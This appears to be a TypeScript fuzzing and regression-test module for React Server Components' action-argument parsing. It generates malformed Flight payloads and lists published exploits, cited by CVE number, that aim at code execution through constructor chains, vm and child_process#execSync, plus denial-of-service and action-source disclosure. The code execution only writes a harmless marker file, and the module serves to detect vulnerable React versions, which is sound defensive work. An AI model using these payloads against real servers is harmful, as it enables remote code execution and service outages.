/** A random source that is the same for the same seed. */
export type Chance = { below: (most: number) => number; of: <Thing>(list: readonly Thing[]) => Thing };
/** A field of a form. */
export type Field = [name: string, value: string];

/** In every text that is sent, so that any stored copy is found. */
export const CANARY = "garbage-canary";
/** The effect of a body that was executed instead of parsed. */
export const PLANTED = "academy-was-here";

/** Bound arguments of a page's action, for browsers without scripts; the first is what our pages send. */
export const BOUND = [
  `[{"errors":{},"values":{}}]`,
  "[]",
  "[1,2,3]",
  "null",
  `["$@1"]`,
  `["$K1"]`,
  `["$F1"]`,
  `"$undefined"`,
];

/** Arguments in React's format, with content React never writes. */
export function flight(chance: Chance, id: string): string {
  const deep = 1 + chance.below(8_000);
  return chance.of([
    '["$F1"]',
    '["$Q1","$W1","$i1","$T1"]',
    `["$n${"9".repeat(200)}"]`,
    `["$n${"9".repeat(100_000)}"]`,
    '["$A1","$O1","$o1","$U1","$S1","$s1","$L1","$l1","$G1","$g1","$M1","$m1","$V1"]',
    '["$B1","$R1","$r1","$X1","$x1","$K1","$Z1","$Y","$P1","$h1","$E1"]',
    '["$@0"]',
    '["$0"]',
    '"$@0"',
    '["$1","$2","$3"]',
    '["$1:a:b:c:__proto__:constructor"]',
    '["$0:0:0:0:0"]',
    '["$D2026-99-99","$-Infinity","$NaN","$-0","$I","$undefined"]',
    `[{"__proto__":{"polluted":"${CANARY}"},"constructor":{"prototype":{"polluted":1}}}]`,
    `[{"then":"$F1","catch":null,"${CANARY}":1}]`,
    `${"[".repeat(deep)}${"]".repeat(deep)}`,
    `${'{"a":'.repeat(deep)}1${"}".repeat(deep)}`,
    `[${'"$@1",'.repeat(1_200)}null]`,
    `[${'"$K1",'.repeat(1_200)}null]`,
    `[${"1,".repeat(2_000)}1]`,
    `[{"id":"${id}","bound":"$@0"}]`,
    `["${CANARY}"]`,
    `[["full_name","${CANARY}"],["msisdn","0711000010"]]`,
    `[{"errors":{},"values":{}},[["q","${CANARY}"]]]`,
    "",
    "{",
    "null",
    "undefined",
    "\u0000",
    "[,]",
    `["\\ud800"]`,
    `[1e999999]`,
    "9".repeat(50_000),
  ]);
}

export function parts(chance: Chance, id: string): Field[] {
  const size = 2 + chance.below(40);
  const loop: Field[] = Array.from({ length: size }, (_, n) => [
    `${n}`,
    `["$${(n + 1) % size}","$@${(n + 1) % size}"]`,
  ]);
  return chance.of<Field[]>([
    loop,
    loop.map(([name]) => [name, `{"then":"$${name}:then","a":"$@${(Number(name) + 1) % size}"}`]),
    [
      ["0", '["$@1"]'],
      ["1", '"$@1"'],
    ],
    [
      ["0", '["$Q1"]'],
      ["1", '[["$Q1","$Q1"]]'],
    ],
    [
      ["0", '["$W1"]'],
      ["1", '["$W1"]'],
    ],
    [
      ["0", '["$F1"]'],
      ["1", `{"id":"${id}","bound":"$@0"}`],
    ],
    [
      ["0", '["$F1"]'],
      ["1", `{"id":"${id}","bound":"$@2"}`],
      ["2", `[${'"x",'.repeat(1_500)}1]`],
    ],
    [
      ["0", '["$o1"]'],
      ["1", CANARY.repeat(50)],
    ],
    [
      ["0", '["$r1"]'],
      ["1", "C"],
    ],
    [
      ["0", '["$x1"]'],
      ["1", `"${CANARY}"`],
    ],
    [
      ["0", '["$K1"]'],
      ["1_", CANARY],
      ["1___proto__", CANARY],
      ["1_$ACTION_REF_1", ""],
    ],
    [
      ["0", "[]"],
      ["0", '["$F1"]'],
      ["0", "[]"],
    ],
    [
      ["1", "[]"],
      ["2", "[]"],
    ],
    [
      ["0", `["$1:${Array.from({ length: 1_000 }, () => "a").join(":")}"]`],
      ["1", "{}"],
    ],
    Array.from({ length: 1_000 }, (_, n) => [`${n}`, n === 0 ? `["$999"]` : `["$${n - 1}","$${n - 1}"]`]),
  ]);
}

/** The published exploits. A vulnerable React executes them and reveals PLANTED. */
export const KNOWN: Array<(id: string) => Field[]> = [
  () => [
    [
      "0",
      `{"then":"$1:__proto__:then","status":"resolved_model","reason":-1,"value":"{\\"then\\":\\"$B1337\\"}","_response":{"_prefix":${JSON.stringify(CARRIED_OUT)},"_chunks":"$Q2","_formData":{"get":"$1:constructor:constructor"}}}`,
    ],
    ["1", '"$@0"'],
    ["2", "[]"],
  ],
  () => [
    ["0", '["$1:a:a"]'],
    ["1", JSON.stringify({ a: { a: "$2:constructor:constructor" }, code: CARRIED_OUT })],
    ["2", "{}"],
  ],
  () => [
    [
      "0",
      '{"status":"resolved_model","reason":0,"_response":{"_prefix":"$1","_formData":{"get":"$3:then:constructor"}},"then":"$2:then","value":"{\\"then\\":\\"$B0\\"}"}',
    ],
    ["1", CARRIED_OUT],
    ["2", '"$@3"'],
    ["3", '"$@0"'],
  ],
  (id) => [
    ["0", '["$F1"]'],
    ["1", `{"id":"${id}#constructor","bound":["${CARRIED_OUT}"]}`],
  ],
  () => [
    ["0", '["$F1"]'],
    ["1", JSON.stringify({ id: "vm#runInThisContext", bound: [CARRIED_OUT] })],
  ],
  () => [
    ["0", '["$F1"]'],
    ["1", JSON.stringify({ id: "child_process#execSync", bound: [`touch ${PLANTED}`] })],
  ],
  // Waits for itself forever (CVE-2025-55184, 67779).
  () => [["0", '"$@0"']],
  () => [
    ["0", '["$@1"]'],
    ["1", '"$@2"'],
    ["2", '"$@1"'],
  ],
  () => [
    ["0", '{"then":"$@0:then"}'],
    ["1", '"$@0"'],
  ],
  // Asks for the source of an action (CVE-2025-55183).
  (id) => [
    ["0", '[{"errors":{},"values":{"q":"$F1"}},"$F1"]'],
    ["1", `{"id":"${id}","bound":null}`],
  ],
];
const CARRIED_OUT = `process.getBuiltinModule("fs").writeFileSync("${PLANTED}","");//`;

/** Mulberry32. */
export function chanceOf(seed: number): Chance {
  let state = seed;
  const next = () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
  const below = (most: number) => Math.floor(next() * most);
  return { below, of: (list) => list[below(list.length)]! };
}
